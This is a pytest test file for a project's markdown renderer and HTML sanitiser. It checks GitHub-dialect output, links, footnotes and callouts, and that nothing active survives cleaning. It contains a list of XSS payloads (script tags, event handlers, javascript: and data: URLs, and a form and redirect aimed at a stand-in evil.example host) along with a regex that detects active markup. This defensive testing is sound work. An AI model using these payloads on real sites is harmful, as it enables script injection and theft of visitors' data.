"""Markdown fragments: what GitHub shows, minus everything that could act, plus the links of the bank."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown import markdown as python_markdown

from storybank.markdown import (
    Definitions,
    KnownNames,
    Links,
    clean,
    dropped_html,
    headings,
    hrefs,
    inert,
    mentions,
    plain,
    render,
    render_inline,
)

GITHUB = {
    "nested list with two spaces": ("- a\n  - b\n", "<ul><li>a<ul><li>b</li></ul></li></ul>"),
    "list right after a paragraph": ("text\n- a\n", "<p>text</p><ul><li>a</li></ul>"),
    "fence in a list": ("- a\n  ```\n  x\n  ```\n", "<ul><li>a<pre><code>x</code></pre></li></ul>"),
    "strikethrough": ("~~gone~~", "<p><s>gone</s></p>"),
    # GitHub links the text as written; we write the form that a browser asks for.
    "bare address": ("https://example.org", '<p><a href="https://example.org/">https://example.org</a></p>'),
    "a file name is no address": ("README.md", "<p>README.md</p>"),
    "aligned table": (
        "| a |\n|--:|\n| 1 |\n",
        '<table><thead><tr><th class="align-right">a</th></tr></thead>'
        '<tbody><tr><td class="align-right">1</td></tr></tbody></table>',
    ),
    "an admonition is text": ("!!! note\n", "<p>!!! note</p>"),
    "attributes are text": ("**me**{: onclick=x }", "<p><strong>me</strong>{: onclick=x }</p>"),
}


def squeeze(text: str) -> str:
    return re.sub(r"\s*(<[^>]*>)\s*", r"\1", text.replace(' rel="noopener noreferrer"', "")).strip()


@pytest.mark.parametrize("name", GITHUB)
def test_github_dialect(name: str) -> None:
    source, expected = GITHUB[name]
    assert squeeze(render(source)) == expected


def test_task_boxes_are_text_not_controls() -> None:
    assert squeeze(render("- [ ] open\n- [x] done\n")) == "<ul><li>☐  open</li><li>☑  done</li></ul>"


def test_code_is_highlighted_without_styles() -> None:
    result = render("```python\nreturn 1\n```\n")
    assert '<span class="k">return</span>' in result
    assert "style=" not in result


def test_headings_follow_the_page() -> None:
    assert squeeze(render("# a\n\n### b\n")) == "<h4>a</h4><h6>b</h6>"
    assert squeeze(render("# a\n\n##### b\n")) == "<h4>a</h4><h6>b</h6>"


def test_footnotes_have_ids_of_their_own_and_may_stand_elsewhere() -> None:
    texts = {"[^1]": "[^1]: The *note*.", "[rfc]": "[rfc]: https://example.org/rfc"}
    links = Links(prefix="story", definitions=Definitions(texts))
    result = render("See[^1] the [rfc].", links)
    assert 'id="fn-story-1"' in result
    assert "<em>note</em>" in result
    assert 'href="https://example.org/rfc"' in result
    assert "footnote" not in render("Nothing to see.", links)


def test_links_are_resolved_and_remote_images_become_links() -> None:
    links = Links(resolve={"frugality.md": "../frugality/", "a.png": "../media/a.png"}.get)
    assert 'href="../frugality/"' in render("[x](frugality.md)", links)
    assert '<img src="../media/a.png" alt="a">' in render("![a](a.png)", links)
    remote = render("![chart](https://tracker.example/x.png)", links)
    assert "<img" not in remote
    assert '<a href="https://tracker.example/x.png"' in remote


def test_a_name_is_linked_once_and_never_in_code_or_links() -> None:
    addresses = {"Ownership": "../o/", "Dive deep": "../d/"}
    links = Links(names=KnownNames(addresses), named=addresses.__getitem__)
    text = "`Ownership` [Ownership](x) took ownership. Ownership and Ownership; Dive Deep; Co-Ownership.\n\nOwnership"
    result = render(text, links)
    assert result.count('href="../o/"') == 1
    assert '. <a href="../o/" class="mention"' in result
    assert ">Dive Deep</a>" in result
    assert mentions(text, KnownNames(addresses)) == (("Ownership", 0), ("Dive deep", 0))


def test_plain_text_is_what_a_reader_sees() -> None:
    text = "**Bold** `code` [link](x) ![alt](y) <b>html</b> &amp; a\nb\n\n- one\n- two\n\n```\nfence\n```\n"
    assert plain(text) == "Bold code link alt html & a b one two fence"


def test_addresses_and_headings_come_with_their_lines() -> None:
    text = "# One\n\n[a](x.md)\n[b](y.md)\n\n![c](z.png)\n\nTwo\n---\n"
    assert hrefs(text) == (("x.md", 2), ("y.md", 3), ("z.png", 5))
    assert headings(text) == (("One", 0), ("Two", 7))


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=p><button>go</button></form>",
    "<style>*{display:none}</style>",
    "<p style='position:fixed' id=__md_scope data-md-component=search>x</p>",
    "<img src='//tracker.example/x.png'>",
    "<img src='\\\\tracker.example\\x.png'>",
    "<video src=x onerror=alert(1)></video>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
]
ACTIVE = re.compile(
    r"<(?:script|iframe|svg|math|base|meta|form|input|button|style|link|object|embed|video|audio)\b"
    r"|\son\w+\s*=|\sstyle\s*=|\sid=\"(?!fn)|\sdata-|(?:href|src)=\"\s*(?:javascript|data|vbscript):|src=\"[/\\]{2}",
    re.IGNORECASE,
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_active_survives(attack: str) -> None:
    for text in (attack, f"text {attack} text", f"- item\n\n  {attack}\n", f"| a |\n|---|\n| {attack} |\n"):
        assert not ACTIVE.search(render(text)), render(text)
        assert not ACTIVE.search(render_inline(text))


@pytest.mark.parametrize(
    ("text", "lost"),
    [
        ("a\n\n<script>x</script>", (("<script>", 2),)),
        ("a\nb <kbd onclick='x'>k</kbd>", (("<kbd onclick='x'>", 1),)),
        ("<details><summary>x</summary>\n\n<b>y</b>\n\n</details>", ()),
        ("a <details open ontoggle=x>", (("<details open ontoggle=x>", 0),)),
        ("a <kbd title=x hidden>k</kbd>", (("<kbd title=x hidden>", 0),)),
        ("a <img src=https://example.org/a.png>", (("<img src=https://example.org/a.png>", 0),)),
        ("a <img src=a.png alt=b> <a href=https://example.org>", ()),
        ("- [ ] task\n", ()),
        ("`<script>`", ()),
    ],
)
def test_what_cleaning_takes_away_is_named(text: str, lost: tuple[tuple[str, int], ...]) -> None:
    assert dropped_html(text) == lost


REL = 'rel="noopener noreferrer"'


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("<img src='https://e.org/a.png' alt='a &gt; b'>", f'<a href="https://e.org/a.png" {REL}>a &gt; b</a>'),
        ("<img src='//e.org/a.png'>", f'<a href="https://e.org/a.png" {REL}>https://e.org/a.png</a>'),
        ("<a href=b.md>x <img src='//e.org/a.png' alt=c> y</a>", f'<a href="b.md" {REL}>x c y</a>'),
        ("<a onclick=x>b <img src='//e.org/a.png' alt=c></a>", f'b <a href="https://e.org/a.png" {REL}>c</a>'),
        ("<img src='#elsewhere:javascript:x' alt=a>", "a"),
        ("<img src=a.png alt=a>", "a"),  # no image of the bank, as far as anybody says here
        ("<img src=/logout alt=a> <img src='#image:../x' alt=b>", "a b"),
        (
            "![c](/\\\\x.png) ![d](../../../logout)",
            f'<a href="/%5Cx.png" {REL}>c</a> <a href="../../../logout" {REL}>d</a>',
        ),
        ("<a name=x>a</a> <a href=b.md>b</a>", f'a <a href="b.md" {REL}>b</a>'),
        ("[a](javascript:x) ![b](data:x) <javascript:c>", "a b javascript:c"),
    ],
)
def test_an_image_from_elsewhere_is_a_link_and_no_link_is_without_an_address(text: str, shown: str) -> None:
    assert html.unescape(inert(render_inline(text))) == html.unescape(shown)


def test_an_image_from_elsewhere_fetches_nothing_before_it_is_a_link() -> None:
    assert re.findall('src="([^"]*)"', render_inline("<img src='//e.org/a.png'>")) == ["#elsewhere:https://e.org/a.png"]


HOSTILE_ALPHABET = st.text(alphabet="<>&\"'`*_[](){}!#|\\^$=+-~:;/ \n\taS1%@.é\u2028\x00", max_size=120)


@given(HOSTILE_ALPHABET)
def test_no_text_breaks_rendering_and_nothing_active_comes_out(text: str) -> None:
    assert not ACTIVE.search(render(text))


@given(HOSTILE_ALPHABET)
def test_inert_html_survives_a_second_reader(text: str) -> None:
    """Python-Markdown, with the extensions that sites use, reads inert HTML back as what it is."""
    once = clean(f"<div>{html.escape(text.replace(chr(0), ''))}</div>")
    extensions = ["attr_list", "md_in_html", "tables", "toc", "footnotes", "abbr", "admonition", "def_list"]
    again = python_markdown(inert(once), extensions=extensions)
    assert words_of(again) == words_of(once)
    assert "{" not in inert(once)


@given(HOSTILE_ALPHABET)
def test_inert_html_is_read_as_it_was_written(text: str) -> None:
    """A parser finds the same elements, attributes and words in inert HTML, line breaks in a text apart.

    Links without an address are none there: their tags are left out on both sides.
    """
    once = clean(f'<p title="{html.escape(text)}"><a href="x?{html.escape(text)}">x</a></p>{render(text)}')
    assert [seen for seen in events(inert(once)) if not is_bare(seen)] == [
        seen for seen in events(once) if not is_bare(seen)
    ]


def is_bare(seen: object) -> bool:
    return seen == "a" or (isinstance(seen, tuple) and seen[0] == "a" and "href" not in dict(seen[1]))


def test_what_is_no_tag_becomes_text() -> None:
    assert inert('<IMG alt="1 > 0">a < b<br/><pre>\n</pre>') == '<img alt="1 &gt; 0">a &lt; b<br><pre>&#10;</pre>'


class _Events(HTMLParser):
    """What a parser says of a document, in order, and nothing of a link that leads nowhere."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[object] = []
        self.links: list[bool] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if leads := tag != "a" or bool(dict(attrs).get("href")):
            self.seen.append((tag, attrs))
        self.links += [leads] if tag == "a" else []

    def handle_endtag(self, tag: str) -> None:
        if tag != "a" or self.links.pop():
            self.seen.append(tag)

    def handle_data(self, data: str) -> None:
        if self.seen and isinstance(self.seen[-1], list):  # a link that leads nowhere stood between
            self.seen[-1].append(data)
        else:
            self.seen.append([data])


def events(fragment: str) -> list[object]:
    parser = _Events()
    parser.feed(fragment)
    parser.close()
    said = ("".join(each).split() if isinstance(each, list) else each for each in parser.seen)
    return [each for each in said if each != []]


def words_of(fragment: str) -> str:
    return re.sub(r"\s+", "", html.unescape(re.sub(r"<[^>]*>", "", fragment)))


@pytest.mark.parametrize(
    ("text", "kind", "title", "body"),
    [
        ("> [!NOTE]\n> A *word*.", "note", "Note", "<p>A <em>word</em>.</p>"),
        ("> [!tip] Say `this`\n> now", "tip", "Say <code>this</code>", "<p>now</p>"),
        ("> [!warning]- Folded\n>\n> - one", "warning", "Folded", "<ul><li>one</li></ul>"),
        ("> [!my-own+kind] no box\n> x", "", "", ""),
        ("> [!faq]", "faq", "Faq", ""),
        ("> A quote of [!note].", "", "", ""),
        ("[!note] no quote", "", "", ""),
    ],
)
def test_a_callout_is_a_box_with_its_title(text: str, kind: str, title: str, body: str) -> None:
    box = f'<div class="callout callout-{kind}"><p class="callout-title">{title}</p>{body}</div>'
    shown = squeeze(render(text))
    assert shown == squeeze(box) if kind else "callout" not in shown


def test_callouts_stand_in_one_another_and_keep_the_lines_of_their_links() -> None:
    text = "- item\n  > [!a] [x](1.md)\n  > [y](2.md)\n  > > [!b]\n  > > [z](3.md)\n\n> quote"
    shown = squeeze(render(text))
    assert (
        shown.index("callout-a") < shown.index("callout-b") < shown.index("</div></div>") < shown.index("<blockquote>")
    )
    assert hrefs(text) == (("1.md", 1), ("2.md", 2), ("3.md", 4))


@pytest.mark.parametrize("written", ["![[other.png]]", "![other.png](other.png)"])
def test_an_image_that_leads_to_a_page_is_a_link(written: str) -> None:
    """As where a story is called as an image is: a browser would fetch the page, and show nothing."""
    assert render_inline(written, Links(resolve=lambda _: "../stories/other-png/")) == (
        '<a href="../stories/other-png/" rel="noopener noreferrer">other.png</a>'
    )
    assert "<img" not in inert(render("<img src=other.png alt=a>", Links(resolve=lambda _: "../stories/other-png/")))


def test_links_by_name_show_their_text_and_lead_where_the_bank_says() -> None:
    text = "[[The retry]], [[own#Tips|tips]] and [[#Tips]].\n![[a.png|300]] ![[a.png|A chart]] ![[Note]]"
    assert plain(text) == "The retry, tips and Tips. a.png A chart Note"
    assert [line for _, line in hrefs(text)] == [0, 0, 0, 1, 1, 1]
    addresses = {
        href: f"../{number}/{'a.png' if 'png' in href else ''}" for number, (href, _) in enumerate(hrefs(text))
    }
    shown = render(text, Links(resolve=addresses.get))
    assert '<a href="../0/" rel="noopener noreferrer">The retry</a>' in shown
    assert '<img src="../4/a.png" alt="A chart">' in shown
    assert "<a" not in render(text)
    assert "<img" not in render(text)


@pytest.mark.parametrize("text", ["`[[x]]`", r"\[[x]]", "[[x", "[[]]", "```\n[[x]] ![[y.png]]\n```"])
def test_what_is_no_link_by_name_stays_text(text: str) -> None:
    assert hrefs(text) == ()
    assert "[[" in html.unescape(render(text))


@pytest.mark.parametrize("attack", ["[[javascript:alert(1)]]", "![[javascript:alert(1).png]]"])
def test_a_link_by_name_opens_nothing_by_itself(attack: str) -> None:
    assert not ACTIVE.search(render(attack))
    assert "href" not in render(attack)


@pytest.mark.parametrize(
    "text", ["List<String> and Vec<u8>", "on <host>, <your-name>", "</String>", '<Foo onclick="x()">', "<T>\n\n<K, V>"]
)
def test_names_in_angle_brackets_are_text(text: str) -> None:
    assert plain(text) == " ".join(text.split())
    assert " ".join(html.unescape(re.sub(r"</?p>", "", render(text))).split()) == " ".join(text.split())
    assert dropped_html(text) == ()


@pytest.mark.parametrize(
    "text", ["<b>x</b>", "<KBD>x</KBD>", "<form>x</form>", "<svg onload=x>x</svg>", "<iframe>x</iframe>"]
)
def test_elements_are_no_text(text: str) -> None:
    assert plain(text) == "x"
    assert "&lt;" not in render(text)


@pytest.mark.parametrize("sign", "。，、；：！？）」』】》")
def test_an_address_ends_at_full_width_punctuation(sign: str) -> None:
    text = f"见 https://example.org/a{sign}然后 https://example.org/b{sign}https://example.org/c"
    assert [href for href, _ in hrefs(text)] == [f"https://example.org/{page}" for page in "abc"]
    assert plain(text) == text
    assert f"</a>{sign}" in render(text)


def test_a_line_has_its_note_behind_it_and_an_extract_none() -> None:
    links = Links(definitions=Definitions({"[^1]": "[^1]: By the *monitor*\n    of it."}))
    assert render_inline("Say it.[^1] Twice.", links) == (
        "Say it. <small>(By the <em>monitor</em>\nof it.)</small> Twice."
    )
    assert plain("Say it.[^1] `[^1]`") == "Say it. [^1]"
    assert render_inline("Say it.[^2]", links) == "Say it.[^2]"
